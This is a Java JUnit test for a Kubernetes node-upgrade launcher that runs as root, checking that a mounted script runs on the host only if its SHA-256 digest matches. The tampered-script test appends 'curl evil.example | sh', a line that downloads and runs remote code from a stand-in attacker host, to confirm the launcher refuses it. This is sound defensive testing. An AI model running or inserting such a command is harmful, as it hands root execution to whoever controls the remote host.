package dev.cks.nodeops.upgrade;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.concurrent.TimeUnit;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The Job's launcher is shell that runs as root on a node, so it is run here for real with this
 * machine's sh, sha256sum and cut, in a temporary tree standing in for the pod's mounts; `nsenter` is a
 * stand-in on the PATH that records what it was asked to run.
 */
class UpgradeJobLauncherTest {
    private static final String SCRIPT = "#!/bin/sh\nkubeadm upgrade node\n";
    private static final String JOB = "upgrade-prod-node-1-0123456789";

    @TempDir
    Path root;

    @Test
    void aScriptWithTheRecordedDigestIsCopiedToTheHostAndRunInItsNamespaces() throws Exception {
        Result result = run(SCRIPT, ScriptTrust.sha256(SCRIPT));

        assertThat(result.exitCode()).as(result.output()).isZero();
        assertThat(Files.readString(root.resolve("nsenter.args")).strip())
                .isEqualTo("-t 1 -m -u -i -n -p -- /bin/sh " + UpgradeJob.HOST_DIR + "/" + JOB + ".sh v1.33.4 node");
        assertThat(root.resolve("host" + UpgradeJob.HOST_DIR + "/" + JOB + ".sh")).hasContent(SCRIPT.strip());
    }

    @Test
    void aScriptChangedAfterTheCheckRunsNothingAndSaysWhy() throws Exception {
        Result result = run(SCRIPT + "curl evil.example | sh\n", ScriptTrust.sha256(SCRIPT));

        assertThat(result.exitCode()).isEqualTo(1);
        assertThat(result.output()).contains("not " + ScriptTrust.sha256(SCRIPT)).contains("Nothing was run");
        assertThat(root.resolve("nsenter.args")).as("nsenter never ran").doesNotExist();
        assertThat(root.resolve("host" + UpgradeJob.HOST_DIR + "/" + JOB + ".sh")).as("the copy is removed").doesNotExist();
    }

    private record Result(int exitCode, String output) {
    }

    private Result run(String mountedScript, String digest) throws IOException, InterruptedException {
        Path script = root.resolve("upgrade/script.sh");
        Files.createDirectories(script.getParent());
        Files.writeString(script, mountedScript);
        Path bin = Files.createDirectories(root.resolve("bin"));
        Path nsenter = bin.resolve("nsenter");
        Files.writeString(nsenter, "#!/bin/sh\necho \"$@\" > " + root.resolve("nsenter.args") + "\n");
        Files.setPosixFilePermissions(nsenter, PosixFilePermissions.fromString("rwxr-xr-x"));
        String launcher = UpgradeJob.launcher(new UpgradeJob.LauncherPaths(script.toString(), root.resolve("host").toString()), digest);
        ProcessBuilder builder = new ProcessBuilder(List.of("sh", "-c", launcher, JOB, "v1.33.4", "node")).redirectErrorStream(true);
        builder.environment().put("PATH", bin + ":" + System.getenv("PATH"));
        Process process = builder.start();
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
        return new Result(process.exitValue(), output);
    }
}
